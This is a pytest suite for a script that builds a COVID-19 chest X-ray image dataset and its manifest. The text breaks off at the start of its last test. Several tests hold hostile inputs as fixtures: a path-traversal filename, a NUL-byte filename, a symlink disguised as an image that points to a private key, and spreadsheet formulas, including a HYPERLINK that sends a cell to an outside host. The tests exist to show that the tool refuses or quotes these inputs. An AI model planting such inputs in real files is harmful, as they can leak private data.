"""build_covid_dataset.py on every version of Cohen's metadata.csv header."""

import csv
import errno
import hashlib
import os
import random
import socket
import subprocess
import sys

import numpy as np
import pytest

import build_covid_dataset
import sample_kaggle_dataset
from covid19xray import building, cohen, fetch
from helpers import (
    HEADERS,
    ROOT,
    ROWS,
    assert_one_line_error,
    expected_kaggle_sample,
    output_cases,
    run_main,
    serve,
    snapshot,
    terminate_here,
    write_collection,
    write_dicom,
    write_image,
    write_kaggle,
    write_refused_radiology_files,
)


def build(covid, output, *extra):
    return run_main(build_covid_dataset.main, ["--covid", covid, "--output", output, *extra])


@pytest.mark.parametrize("version", list(HEADERS))
def test_every_metadata_version_selects_the_covid_pa_images(tmp_path, version):
    covid = write_collection(str(tmp_path / "src" / "covid-chestxray-dataset"), version)
    output = str(tmp_path / "dataset" / "covid")
    source_before = snapshot(str(tmp_path / "src"))

    code, out, err = build(covid, output)

    has_folder = version in ("june-2020", "current")
    expected = {"a.jpg", "d.png", "g.jpeg"} | ({"v.jpg"} if has_folder else set())
    assert code == 0, err
    assert set(os.listdir(output)) == expected
    rows = len(ROWS) + has_folder
    assert out.strip().splitlines()[-1] == (
        f"[INFO] rows read: {rows}, rows matched: {6 + has_folder}, copied: {len(expected)}, "
        "already present: 0, missing files: 1, refused: 1, duplicates: 1, conflicts: 0")
    assert "refusing '../outside.jpg'" in err
    # copies are byte-identical and keep the source's modification time
    for name in expected:
        source = os.path.join(covid, "volumes" if name == "v.jpg" else "images", name)
        with open(source, "rb") as a, open(os.path.join(output, name), "rb") as b:
            assert a.read() == b.read()
        assert os.stat(source).st_mtime_ns == os.stat(os.path.join(output, name)).st_mtime_ns
    assert snapshot(str(tmp_path / "src")) == source_before  # source never modified

    # a rerun copies nothing and changes nothing
    output_before = snapshot(output)
    code, out, _ = build(covid, output)
    assert code == 0
    assert f"copied: 0, already present: {len(expected)}," in out
    assert snapshot(output) == output_before


def test_finding_and_view_flags_change_the_targets(tmp_path):
    covid = write_collection(str(tmp_path / "c"), "current")
    code, _, _ = build(covid, str(tmp_path / "sars"), "--finding", "sars")
    assert code == 0 and os.listdir(tmp_path / "sars") == ["c.jpg"]
    code, _, _ = build(covid, str(tmp_path / "pa_ap"), "--view", "PA", "--view", "AP")
    assert code == 0 and set(os.listdir(tmp_path / "pa_ap")) == {
        "a.jpg", "b.jpg", "d.png", "g.jpeg", "v.jpg"}
    code, _, _ = build(covid, str(tmp_path / "viral"), "--finding", "COVID-19",
                       "--finding", "MERS-CoV")
    assert code == 0 and set(os.listdir(tmp_path / "viral")) == {
        "a.jpg", "d.png", "e.jpg", "g.jpeg", "v.jpg"}


def test_nothing_matched_fails_and_shows_what_was_seen(tmp_path):
    rows = [r for r in ROWS if "COVID" not in r[0].upper()]
    covid = write_collection(str(tmp_path / "c"), "current", rows=rows, volume=False)
    output = str(tmp_path / "out")
    code, out, err = build(covid, output)
    assert code == 1
    assert len(err.strip().splitlines()) == 1
    assert "no row has finding COVID-19 and view PA" in err
    assert "'Pneumonia/Viral/SARS'" in err and "'No Finding'" in err
    assert err.rstrip().endswith("views seen: ['PA']")
    assert not os.path.exists(output)  # nothing created


def test_a_different_file_with_the_same_name_is_never_overwritten(tmp_path):
    covid = write_collection(str(tmp_path / "c"), "june-2020")
    output = tmp_path / "out"
    output.mkdir()
    (output / "a.jpg").write_bytes(b"the user's own file")
    code, out, err = build(covid, str(output))
    assert code == 1
    assert (output / "a.jpg").read_bytes() == b"the user's own file"
    assert set(os.listdir(output)) == {"a.jpg", "d.png", "g.jpeg", "v.jpg"}  # the rest copied
    assert "copied: 3, already present: 0," in out and out.rstrip().endswith("conflicts: 1")
    assert "not overwriting" in err and "were not overwritten" in err.strip().splitlines()[-1]


def test_limit_copies_a_reproducible_sample(tmp_path):
    names = [f"img{i:02d}.jpg" for i in range(20)]
    rows = [("COVID-19", "", "PA", name) for name in names]
    covid = write_collection(str(tmp_path / "src"), "april-2020", rows=rows, images=names)

    def sample(output, seed):
        code, out, _ = build(covid, str(tmp_path / output), "--limit", "5", "--seed", seed)
        assert code == 0 and "[INFO] sampled 5 of 20 images" in out
        return sorted(os.listdir(tmp_path / output))

    # sorted candidates, seeded shuffle, first N: the documented selection, on any machine
    expected = sorted(names)
    random.Random(42).shuffle(expected)
    assert sample("a", "42") == sorted(expected[:5])
    assert sample("b", "42") == sorted(expected[:5])
    assert sample("c", "7") != sorted(expected[:5])


@pytest.mark.parametrize("header", [
    "patientid,finding,filename",  # no view
    "patientid,view,filename",     # no finding
    "patientid,finding,view",      # no filename
])
def test_metadata_without_a_needed_column(tmp_path, header):
    covid = tmp_path / "c"
    covid.mkdir()
    (covid / "metadata.csv").write_text(header + "\n1,COVID-19,PA\n")
    code, _, err = build(str(covid), str(tmp_path / "out"))
    assert code == 1 and "column; its header is: " + header in err
    assert len(err.strip().splitlines()) == 1


def test_missing_metadata_and_output_inside_source(tmp_path):
    code, _, err = build(str(tmp_path), str(tmp_path.parent / "out"))
    assert code == 1 and "has no metadata.csv" in err
    covid = write_collection(str(tmp_path / "c"), "current")
    code, _, err = build(covid, os.path.join(covid, "images"))
    assert code == 1 and "source data is never modified" in err


def test_command_line_run_in_a_subprocess(tmp_path):
    covid = write_collection(str(tmp_path / "covid-chestxray-dataset"), "current")
    result = subprocess.run(
        [sys.executable, os.path.join(ROOT, "build_covid_dataset.py"),
         "-c", covid, "-o", os.path.join("dataset", "covid")],
        cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert sorted(os.listdir(tmp_path / "dataset" / "covid")) == [
        "a.jpg", "d.png", "g.jpeg", "v.jpg"]
    assert "copied: 4" in result.stdout


def test_manifest_records_each_images_patient_and_merges_on_rerun(tmp_path):
    covid = write_collection(str(tmp_path / "c"), "current")
    dataset = tmp_path / "dataset"
    code, out, err = build(covid, str(dataset / "covid"))
    assert code == 0, err
    assert f"[INFO] {dataset / 'manifest.csv'}: 4 row(s) for covid/, 4 in all" in out

    def manifest():  # every column but sha256 and downloaded_from (tested with --covid URL)
        with open(dataset / "manifest.csv", newline="") as f:
            return [tuple(row.values())[:7] for row in csv.DictReader(f)]

    # write_collection numbers the patients by row: a.jpg is row 0, d.png 3, g.jpeg 10, v.jpg 11;
    # its rows have neither a licence nor a url, and no patient was excluded
    assert manifest() == [("covid/a.jpg", "covid", "0", "cohen", "", "", ""),
                          ("covid/d.png", "covid", "3", "cohen", "", "", ""),
                          ("covid/g.jpeg", "covid", "10", "cohen", "", "", ""),
                          ("covid/v.jpg", "covid", "11", "cohen", "", "", "")]

    kaggle = write_kaggle(str(tmp_path / "chest_xray"))
    code, out, err = run_main(sample_kaggle_dataset.main, [
        "--kaggle", kaggle, "--output", str(dataset / "normal"), "--sample", "3"])
    assert code == 0, err
    normal = [row for row in manifest() if row[1] == "normal"]
    names = expected_kaggle_sample("train", "NORMAL", 3)
    assert [row[0] for row in normal] == [f"normal/{name}" for name in names]
    # IM-0007-0001.jpeg -> IM-0007, NORMAL2-IM-0010-0001.jpeg -> NORMAL2-IM-0010
    assert [row[2] for row in normal] == [name.rsplit("-", 1)[0] for name in names]
    assert {row[3:] for row in normal} == {
        ("kaggle", "CC BY 4.0", "https://doi.org/10.17632/rscbjbr9sj.2", "")}

    # a rerun of either builder leaves one row per file
    before = manifest()
    assert build(covid, str(dataset / "covid"))[0] == 0
    assert manifest() == before and len(before) == 7

    # a manifest of the previous version (no license, no url) is still read, and merged rows
    # are written back with the new columns: old rows empty, rows written now filled in
    with open(dataset / "manifest.csv", "w", newline="") as f:
        f.write("file,class,patient_id,source\ncovid/old.jpg,covid,x,cohen\n")
    code, _, err = run_main(sample_kaggle_dataset.main, [
        "--kaggle", kaggle, "--output", str(dataset / "normal"), "--sample", "1"])
    assert code == 0, err
    rows = manifest()
    assert rows[0] == ("covid/old.jpg", "covid", "x", "cohen", "", "", "")
    assert rows[1][3:] == ("kaggle", "CC BY 4.0", "https://doi.org/10.17632/rscbjbr9sj.2", "")


# ---------------------------------------------------------------------------------------------
# --license and --per-patient
# ---------------------------------------------------------------------------------------------

LICENSED = [  # (file, patient, licence, url, doi)
    ("by.jpg", "1", "CC BY", "https://example.org/by", ""),
    ("by3.jpg", "2", "CC BY 3.0", "", "10.1000/by3"),           # no url: the DOI stands in
    ("by4.jpg", "3", "CC BY 4.0", "https://example.org/by4", "10.1000/by4"),
    ("by4-spaced.jpg", "4", "  cc  by 4.0 ", "https://example.org/sp", ""),
    ("ncsa.jpg", "5", "CC BY-NC-SA", "https://example.org/ncsa", ""),
    ("ncnd4.jpg", "6", "CC BY-NC-ND 4.0", "https://example.org/ncnd", ""),
    ("sa.jpg", "7", "CC BY-SA", "https://example.org/sa", ""),
    ("none.jpg", "8", "", "https://example.org/none", ""),
    ("blank.jpg", "9", "   ", "https://example.org/blank", ""),
    ("apache.jpg", "10", "Apache 2.0", "https://example.org/apache", ""),
]


def write_licensed(root, rows=LICENSED, license_column=True):
    """A June-2020-style checkout whose COVID-19 PA rows carry the licences of `rows`."""
    header = "patientid,finding,view,folder,filename,doi,url" + (",license" if license_column
                                                                 else "")
    lines = [header]
    for k, (name, patient, license, url, doi) in enumerate(rows):
        cells = [patient, "COVID-19", "PA", "images", name, doi, url]
        if license_column:
            cells.append(f'"{license}"')
        lines.append(",".join(cells))
        write_image(os.path.join(root, "images", name), seed=k, size=(32, 32))
    with open(os.path.join(root, "metadata.csv"), "w") as f:
        f.write("\n".join(lines) + "\n")
    return root


@pytest.mark.parametrize("licenses, expected", [
    (["CC BY"], {"by.jpg", "by3.jpg", "by4.jpg", "by4-spaced.jpg"}),
    (["cc by"], {"by.jpg", "by3.jpg", "by4.jpg", "by4-spaced.jpg"}),
    (["CC BY 4.0"], {"by4.jpg", "by4-spaced.jpg"}),
    (["CC BY-NC-SA"], {"ncsa.jpg"}),
    (["CC BY-NC-ND"], {"ncnd4.jpg"}),
    (["CC BY-SA", "Apache 2.0"], {"sa.jpg", "apache.jpg"}),
])
def test_license_selects_every_version_of_a_bare_name_and_nothing_else(tmp_path, licenses,
                                                                        expected):
    covid = write_licensed(str(tmp_path / "c"))
    flags = [flag for license in licenses for flag in ("--license", license)]
    code, out, err = build(covid, str(tmp_path / "out"), *flags)
    assert code == 0, err
    assert set(os.listdir(tmp_path / "out")) == expected
    assert f"rows matched: {len(expected)}, copied: {len(expected)}," in out


def test_license_matching_rule():
    matches = build_covid_dataset.license_matches
    assert matches("CC BY 4.0", "CC BY") and matches("CC BY 3.0", "cc by ")
    assert matches("CC BY", "CC BY") and matches("CC BY v2.5", "CC BY")
    assert not matches("CC BY-NC-SA 4.0", "CC BY") and not matches("CC BY-SA", "CC BY")
    assert not matches("CC BY 4.0", "CC BY 3.0") and not matches("CC BY", "CC BY 4.0")
    assert not matches("", "CC BY") and not matches("  ", "") and not matches("", "")


def test_license_without_a_license_column_is_one_line(tmp_path):
    covid = write_licensed(str(tmp_path / "c"), license_column=False)
    code, out, err = build(covid, str(tmp_path / "out"), "--license", "CC BY")
    assert code == 1
    assert err.strip().splitlines() == [
        f"build_covid_dataset.py: error: {os.path.join(covid, 'metadata.csv')} has no license "
        "column, so --license cannot select rows; drop --license or use a newer metadata.csv"]
    assert not (tmp_path / "out").exists()
    # without --license the same file builds
    assert build(covid, str(tmp_path / "out"))[0] == 0


def test_no_licence_match_lists_the_licences_seen(tmp_path):
    covid = write_licensed(str(tmp_path / "c"))
    code, _, err = build(covid, str(tmp_path / "out"), "--license", "CC0")
    assert code == 1 and len(err.strip().splitlines()) == 1
    assert "no row has finding COVID-19 and view PA and licence CC0" in err
    assert err.rstrip().endswith(
        "licences seen: ['', 'Apache 2.0', 'CC BY', 'CC BY 3.0', 'CC BY 4.0', 'CC BY-NC-ND 4.0', "
        "'CC BY-NC-SA', 'CC BY-SA', 'cc  by 4.0']")


def per_patient_collection(root):
    """12 patients with 1 to 4 images each (30 images), all CC BY 4.0."""
    rows = [(f"p{p:02d}-{i}.jpg", f"p{p:02d}", "CC BY 4.0", f"https://example.org/{p}", "")
            for p in range(12) for i in range(1 + p % 4)]
    return write_licensed(root, rows), rows


def expected_per_patient(rows, per_patient, limit, seed):
    """The documented selection: each patient's sorted images shuffled by one generator (patients
    in sorted order), the first N kept; then --limit's seeded sample of the sorted survivors."""
    rng, kept = random.Random(seed), []
    for patient in sorted({row[1] for row in rows}):
        images = sorted(row[0] for row in rows if row[1] == patient)
        rng.shuffle(images)
        kept += images[:per_patient]
    kept.sort()
    random.Random(seed).shuffle(kept)
    return sorted(kept[:limit])


@pytest.mark.parametrize("per_patient, limit, seed", [(1, 10, "42"), (2, 15, "42"), (1, 10, "3")])
def test_per_patient_then_limit_is_reproducible(tmp_path, per_patient, limit, seed):
    covid, rows = per_patient_collection(str(tmp_path / "c"))
    expected = expected_per_patient(rows, per_patient, limit, int(seed))
    selections = []
    for output in ("a", "b"):
        code, out, err = build(covid, str(tmp_path / output), "--per-patient", str(per_patient),
                               "--limit", str(limit), "--seed", seed)
        assert code == 0, err
        selections.append(sorted(os.listdir(tmp_path / output)))
    assert selections[0] == selections[1] == expected
    kept = sum(min(1 + p % 4, per_patient) for p in range(12))
    assert f"[INFO] at most {per_patient} image(s) per patient: {kept} of 30 images" in out
    patients = [name.split("-")[0] for name in expected]
    assert max(patients.count(p) for p in patients) <= per_patient


def test_per_patient_seed_changes_the_pick(tmp_path):
    covid, rows = per_patient_collection(str(tmp_path / "c"))
    picks = {}
    for seed in ("1", "2"):
        assert build(covid, str(tmp_path / seed), "--per-patient", "1", "--seed", seed)[0] == 0
        picks[seed] = sorted(os.listdir(tmp_path / seed))
        assert picks[seed] == expected_per_patient(rows, 1, 12, int(seed))
    assert len(picks["1"]) == 12 and picks["1"] != picks["2"]


def test_exclude_patients_leaves_out_exactly_the_patients_of_a_manifest(tmp_path):
    covid, rows = per_patient_collection(str(tmp_path / "c"))
    train = tmp_path / "train"
    assert build(covid, str(train / "covid"), "--per-patient", "1", "--limit", "5")[0] == 0
    train_patients = {name.split("-")[0] for name in os.listdir(train / "covid")}
    assert len(train_patients) == 5
    # another source's patient with the same id is another person: it excludes nothing
    with open(train / "manifest.csv", "a", newline="") as f:
        csv.writer(f).writerow(["normal/x.jpg", "normal", "p11", "kaggle", "CC BY 4.0", "", ""])
    code, out, err = build(covid, str(tmp_path / "test" / "covid"), "--exclude-patients",
                           str(train / "manifest.csv"))
    assert code == 0, err
    expected = sorted(row[0] for row in rows if row[1] not in train_patients)
    assert sorted(os.listdir(tmp_path / "test" / "covid")) == expected
    left_out = sum(1 for row in rows if row[1] in train_patients)
    assert (f"[INFO] --exclude-patients: left out {left_out} matching row(s) of the 5 "
            f"patient(s) in {train / 'manifest.csv'}") in out
    # the manifest of the new set records what its selection left out
    with open(tmp_path / "test" / "manifest.csv", newline="") as f:
        written = list(csv.DictReader(f))
    assert sorted(row["file"] for row in written) == [f"covid/{name}" for name in expected]
    assert {row["excluded_patients_of"] for row in written} == {str(train / "manifest.csv")}
    assert not {row["patient_id"] for row in written} & train_patients


@pytest.mark.parametrize("manifest, phrase", [
    ("missing.csv", "--exclude-patients 'missing.csv': no such file"),
    ("EVERYONE", "every row with finding COVID-19 and view PA is of a patient in"),
])
def test_exclude_patients_that_cannot_be_used_is_one_line(tmp_path, monkeypatch, manifest,
                                                          phrase):
    covid, rows = per_patient_collection(str(tmp_path / "c"))
    monkeypatch.chdir(tmp_path)
    if manifest == "EVERYONE":
        manifest = "all.csv"
        with open(manifest, "w", newline="") as f:
            writer = csv.writer(f)
            writer.writerow(["file", "class", "patient_id", "source"])
            writer.writerows([f"covid/{row[0]}", "covid", row[1], "cohen"] for row in rows)
    before = snapshot(str(tmp_path))
    code, out, err = build(covid, str(tmp_path / "out"), "--exclude-patients", manifest)
    assert_one_line_error(code, err, "build_covid_dataset.py", phrase)
    assert snapshot(str(tmp_path)) == before


def test_manifest_holds_each_images_licence_and_source(tmp_path):
    covid = write_licensed(str(tmp_path / "c"))
    dataset = tmp_path / "d"
    assert build(covid, str(dataset / "covid"), "--license", "CC BY")[0] == 0
    with open(dataset / "manifest.csv", newline="") as f:
        rows = {row["file"]: (row["patient_id"], row["license"], row["url"])
                for row in csv.DictReader(f)}
    assert rows == {
        "covid/by.jpg": ("1", "CC BY", "https://example.org/by"),
        "covid/by3.jpg": ("2", "CC BY 3.0", "https://doi.org/10.1000/by3"),
        "covid/by4.jpg": ("3", "CC BY 4.0", "https://example.org/by4"),
        "covid/by4-spaced.jpg": ("4", "cc  by 4.0", "https://example.org/sp"),
    }


def test_spreadsheet_formulas_in_metadata_land_quoted_and_read_back_exactly(tmp_path):
    from covid19xray.manifest import read_manifest

    hyperlink = '=HYPERLINK("http://x/?"&A1,"click")'
    covid = tmp_path / "c"
    write_image(str(covid / "images" / "-a.jpg"), seed=1, size=(32, 32))
    rows = [["patientid", "finding", "view", "filename", "url", "license"],
            [hyperlink, "COVID-19", "PA", "-a.jpg", "@SUM(1+1)", "+CC BY"]]
    with open(covid / "metadata.csv", "w", newline="") as f:
        csv.writer(f).writerows(rows)
    assert build(str(covid), str(tmp_path / "d" / "covid"))[0] == 0
    with open(tmp_path / "d" / "manifest.csv", newline="") as f:
        written = list(csv.reader(f))[1][:7]  # sha256 and downloaded_from come after
    # what a spreadsheet sees: text, every cell that would run starting with '
    assert written == ["covid/-a.jpg", "covid", "'" + hyperlink, "cohen", "'+CC BY",
                       "'@SUM(1+1)", ""]
    # what our own readers see: the values as they were
    assert read_manifest(str(tmp_path / "d"))["covid/-a.jpg"] == {
        "file": "covid/-a.jpg", "class": "covid", "patient_id": hyperlink, "source": "cohen",
        "license": "+CC BY", "url": "@SUM(1+1)", "excluded_patients_of": "",
        "sha256": hashlib.sha256((covid / "images" / "-a.jpg").read_bytes()).hexdigest(),
        "downloaded_from": "", "age": "", "view": "PA"}


# ---------------------------------------------------------------------------------------------
# Bad input: one line, nothing touched
# ---------------------------------------------------------------------------------------------


HEADER = "patientid,finding,view,filename"


def covid_with_metadata(tmp_path, content):
    covid = tmp_path / "covid-chestxray-dataset"
    write_image(str(covid / "images" / "a.jpg"), seed=1, size=(32, 32))
    if content is not None:
        (covid / "metadata.csv").write_bytes(content)
    return str(covid)


@pytest.mark.parametrize("content, phrases", [
    (None, ["has no metadata.csv", "point it at a checkout of Cohen's"]),
    (b"", ["metadata.csv is empty"]),
    (b"\r\n", ["metadata.csv is empty"]),
    (HEADER.encode() + b"\n", ["metadata.csv has a header but no rows"]),
    (b"patientid,view,filename\n1,PA,a.jpg\n",
     ["has no finding column", "patientid,view,filename"]),
    (b"patientid,finding,filename\n1,COVID-19,a.jpg\n", ["has no view column"]),
    (b"patientid,finding,view\n1,COVID-19,PA\n", ["has no filename column"]),
    (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", ["has no finding, view, filename column"]),
    (HEADER.encode() + b"\n1,COVID-19,PA,gone.jpg\n2,SARS,PA,a.jpg\n",
     ["none of the 1 matching rows has its image", "missing files: 1, refused: 0",
      "is the checkout complete"]),
])
def test_broken_metadata_is_one_line_and_touches_nothing(tmp_path, content, phrases):
    covid = covid_with_metadata(tmp_path, content)
    output = tmp_path / "dataset" / "covid"
    before = snapshot(covid)
    code, out, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output", str(output)])
    assert_one_line_error(code, err, "build_covid_dataset.py", *phrases)
    assert snapshot(covid) == before
    assert not output.exists()  # nothing is created before the metadata is understood


def test_a_nul_byte_in_a_filename_is_refused_not_a_crash(tmp_path):
    covid = covid_with_metadata(tmp_path, HEADER.encode() + b"\n1,COVID-19,PA,a\0.jpg\n"
                                b"2,COVID-19,PA,a.jpg\n")
    code, out, err = run_main(build_covid_dataset.main,
                              ["--covid", covid, "--output", str(tmp_path / "out")])
    assert code == 0, err
    assert err == "[WARNING] refusing 'a\\x00.jpg': not a file inside --covid\n"
    assert "copied: 1" in out and "refused: 1" in out
    assert os.listdir(tmp_path / "out") == ["a.jpg"]


@pytest.mark.parametrize("encoding, delimiter", [
    ("utf-16", ","),      # a spreadsheet's "Unicode text", with its byte-order mark
    ("cp1252", ","),      # Windows' default; the notes hold a byte that is not UTF-8
    ("utf-8-sig", ";"),   # a European spreadsheet's CSV
    ("utf-8", "\t"),
])
def test_metadata_in_other_encodings_and_delimiters_still_builds(tmp_path, encoding, delimiter):
    rows = [HEADER + ",notes", "1,COVID-19,PA,a.jpg,São Paulo", "2,SARS,PA,b.jpg,x"]
    covid = covid_with_metadata(tmp_path, delimiter.join(rows[0].split(",")).encode())
    write_image(os.path.join(covid, "images", "b.jpg"), seed=2, size=(32, 32))
    text = "\r\n".join(delimiter.join(row.split(",")) for row in rows) + "\r\n"
    with open(os.path.join(covid, "metadata.csv"), "wb") as f:
        f.write(text.encode(encoding))
    output = tmp_path / "out"
    code, out, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output", str(output)])
    assert code == 0, err
    assert os.listdir(output) == ["a.jpg"]
    assert "rows read: 2, rows matched: 1, copied: 1" in out


@pytest.mark.parametrize("case", ["output is a file", "output under a file",
                                  "output is the source", "output inside the source"])
def test_covid_builder_refuses_bad_outputs(tmp_path, case):
    covid = write_collection(str(tmp_path / "c"), "current")
    output, phrases = output_cases(tmp_path, covid)[case]
    before = snapshot(str(tmp_path))
    code, _, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output", output])
    assert_one_line_error(code, err, "build_covid_dataset.py", "--output", *phrases)
    assert snapshot(str(tmp_path)) == before


def test_unwritable_output_folder(tmp_path, monkeypatch):
    # Tests may run as root, for whom chmod does not block writing: ask os.access instead.
    covid = write_collection(str(tmp_path / "c"), "current")
    output = tmp_path / "read-only"
    output.mkdir()
    real_access = os.access
    monkeypatch.setattr(os, "access", lambda path, mode: (
        False if os.path.abspath(path) == str(output) else real_access(path, mode)))
    code, _, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output", str(output)])
    assert_one_line_error(code, err, "build_covid_dataset.py", f"--output '{output}' is not "
                          "writable")
    assert os.listdir(output) == []


def test_a_linked_images_folder_builds_and_a_link_to_a_non_image_is_never_copied(tmp_path):
    covid = write_collection(str(tmp_path / "c"), "current")
    # images/ lives on "another disk"; the checkout holds a link to it
    os.rename(os.path.join(covid, "images"), tmp_path / "big-disk")
    os.symlink(tmp_path / "big-disk", os.path.join(covid, "images"))
    # a crafted row: an image name that links to a private file outside the checkout
    (tmp_path / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    os.symlink(tmp_path / "id_rsa", tmp_path / "big-disk" / "evil.png")
    columns = [name.strip().lower() for name in HEADERS["current"].split(",")]
    row = {"patientid": "99", "finding": "COVID-19", "view": "PA", "folder": "images",
           "filename": "evil.png"}
    with open(os.path.join(covid, "metadata.csv"), "a") as f:
        f.write(",".join(row.get(column, "") for column in columns) + "\r\n")
    output = tmp_path / "dataset" / "covid"
    before = snapshot(str(tmp_path / "big-disk"), str(tmp_path / "id_rsa"))
    code, out, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output",
                                                         str(output)])
    assert code == 0, err
    assert sorted(os.listdir(output)) == ["a.jpg", "d.png", "g.jpeg", "v.jpg"]
    assert f"[WARNING] refusing {os.path.join(covid, 'images', 'evil.png')}: not an image (no " \
           "JPEG, PNG, BMP or TIFF signature, no DICOM marker)" in err.splitlines()
    assert out.strip().splitlines()[-1].endswith(
        "copied: 4, already present: 0, missing files: 1, refused: 2, duplicates: 1, "
        "conflicts: 0")  # ../outside.jpg and evil.png
    assert "evil.png" not in (tmp_path / "dataset" / "manifest.csv").read_text()
    assert snapshot(str(tmp_path / "big-disk"), str(tmp_path / "id_rsa")) == before


def test_sigterm_while_copying_leaves_no_half_written_file(tmp_path, monkeypatch):
    from covid19xray import building

    monkeypatch.setattr(building, "copy_new_file", terminate_here)
    covid = write_collection(str(tmp_path / "c"), "current")
    code, _, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output",
                                                       str(tmp_path / "ds" / "covid")])
    assert code == 143 and err.strip().splitlines()[-1] == (
        "build_covid_dataset.py: terminated (SIGTERM); no output was replaced")
    assert sorted(os.listdir(tmp_path)) == ["c", "ds", "outside.jpg"]
    assert os.listdir(tmp_path / "ds" / "covid") == []


def test_a_full_disk_while_building_leaves_the_folder_and_its_manifest_agreeing(tmp_path,
                                                                               monkeypatch):
    covid = write_collection(str(tmp_path / "c"), "current")
    output = tmp_path / "dataset" / "covid"

    def full_disk(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", "manifest.csv")

    monkeypatch.setattr(building, "update_manifest", full_disk)
    code, out, err = build(covid, str(output))
    assert_one_line_error(code, err, "build_covid_dataset.py", "error: No space left on device",
                          warnings=1)  # the collection's '../outside.jpg' row
    # the 4 images it copied before the manifest failed are gone again: no image without its row
    assert os.listdir(output) == [] and not (tmp_path / "dataset" / "manifest.csv").exists()


def test_an_unreadable_manifest_stops_a_builder_before_it_copies(tmp_path):
    covid = write_collection(str(tmp_path / "c"), "current")
    (tmp_path / "dataset").mkdir()
    (tmp_path / "dataset" / "manifest.csv").write_text(
        "file,class,patient_id,source\ncovid/x.jpg,covid," + "x" * 200_000 + ",cohen\n")
    before = snapshot(str(tmp_path / "dataset"))
    code, out, err = build(covid, str(tmp_path / "dataset" / "covid"))
    assert_one_line_error(code, err, "build_covid_dataset.py", "not a readable manifest (field "
                          "larger than field limit", warnings=1)
    assert snapshot(str(tmp_path / "dataset")) == before


def test_a_builder_copies_a_dicom_as_it_is_and_refuses_one_it_cannot_read(tmp_path):
    good = write_dicom(str(tmp_path / "src" / "IM0001.dcm"), np.full((8, 8), 900, np.uint16))
    bad = write_refused_radiology_files(str(tmp_path / "src" / "bad"))
    (tmp_path / "out").mkdir()
    counts, in_place = building.copy_all([good, *bad], str(tmp_path / "out"), [])
    assert in_place == [good] and counts["refused"] == len(bad)
    with open(good, "rb") as a, open(tmp_path / "out" / "IM0001.dcm", "rb") as b:
        assert a.read() == b.read()


# ---------------------------------------------------------------------------------------------
# --covid URL: only the selected images are downloaded
# ---------------------------------------------------------------------------------------------


def manifest_rows(dataset):
    with open(os.path.join(dataset, "manifest.csv"), newline="") as f:
        return list(csv.DictReader(f))


def folder_bytes(folder):
    return {name: (folder / name).read_bytes() for name in sorted(os.listdir(folder))}


def test_a_url_selects_and_copies_exactly_what_the_checkout_gives(tmp_path, monkeypatch):
    monkeypatch.setattr(fetch, "BACKOFF", 0)
    covid, rows = per_patient_collection(str(tmp_path / "c"))
    flags = ["--license", "CC BY", "--per-patient", "1", "--limit", "5", "--seed", "3"]
    assert build(covid, str(tmp_path / "local" / "covid"), *flags)[0] == 0
    cache = str(tmp_path / "cache")
    with serve(covid) as (url, requested):
        code, out, err = build(url, str(tmp_path / "remote" / "covid"), "--cache-dir", cache,
                               *flags)
        assert code == 0, err
        # metadata.csv and the 5 chosen images, nothing else
        assert requested[0] == "metadata.csv" and len(requested) == 6
        assert "[INFO] 5 image(s) downloaded, 0 already in the cache" in out
        assert folder_bytes(tmp_path / "remote" / "covid") == folder_bytes(
            tmp_path / "local" / "covid")
        local, remote = manifest_rows(tmp_path / "local"), manifest_rows(tmp_path / "remote")
        assert [{**row, "downloaded_from": ""} for row in remote] == local
        assert [row["downloaded_from"] for row in remote] == [
            f"{url}images/{row['file'].split('/')[1]}" for row in remote]
        for row in remote:  # the manifest's SHA-256 is the file's
            data = (tmp_path / "remote" / row["file"]).read_bytes()
            assert row["sha256"] == hashlib.sha256(data).hexdigest()

        # a rerun, into another folder, downloads nothing
        requested.clear()
        code, out, err = build(url, str(tmp_path / "again" / "covid"), "--cache-dir", cache,
                               *flags)
        assert code == 0, err
        assert requested == [] and "[INFO] 0 image(s) downloaded, 5 already in the cache" in out
    assert not [name for base, _, names in os.walk(cache) for name in names if ".tmp" in name]


def test_a_missing_or_refused_download_is_replaced_by_the_next_pick(tmp_path, monkeypatch):
    monkeypatch.setattr(fetch, "BACKOFF", 0)
    covid, rows = per_patient_collection(str(tmp_path / "c"))
    flags = ["--limit", "5", "--seed", "3"]
    assert build(covid, str(tmp_path / "local" / "covid"), *flags)[0] == 0
    first_picks = sorted(os.listdir(tmp_path / "local" / "covid"))
    gone, page = f"images/{first_picks[0]}", f"images/{first_picks[1]}"
    with serve(covid, missing=[gone], html=[page]) as (url, requested):
        code, out, err = build(url, str(tmp_path / "remote" / "covid"), "--cache-dir",
                               str(tmp_path / "cache"), *flags)
    assert code == 0, err
    got = sorted(os.listdir(tmp_path / "remote" / "covid"))
    assert len(got) == 5 and set(first_picks[2:]) <= set(got)
    assert first_picks[0] not in got and first_picks[1] not in got
    assert err.splitlines() == [
        f"[WARNING] not using {url}{gone}: HTTP 404 Not Found",
        f"[WARNING] not using {url}{page}: not an image (no JPEG, PNG, BMP or TIFF signature, "
        "no DICOM marker)"]
    assert "missing files: 1" in out and "refused: 1" in out
    # the HTML page was never kept under the image's name
    assert not list((tmp_path / "cache").rglob(first_picks[1]))


def test_no_network_is_one_line_and_writes_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(fetch, "BACKOFF", 0)
    with socket.socket() as s:  # a port on which nothing listens
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    before = snapshot(str(tmp_path))
    code, out, err = build(f"http://127.0.0.1:{port}/", str(tmp_path / "d" / "covid"),
                           "--cache-dir", str(tmp_path / "cache"))
    assert_one_line_error(code, err, "build_covid_dataset.py",
                          f"cannot download http://127.0.0.1:{port}/metadata.csv: ConnectionError",
                          "check the address and the network connection")
    assert snapshot(str(tmp_path)) == before  # not even the cache folder


def test_a_stalled_or_cut_download_is_a_warning_and_leaves_nothing_half_written(tmp_path,
                                                                               monkeypatch):
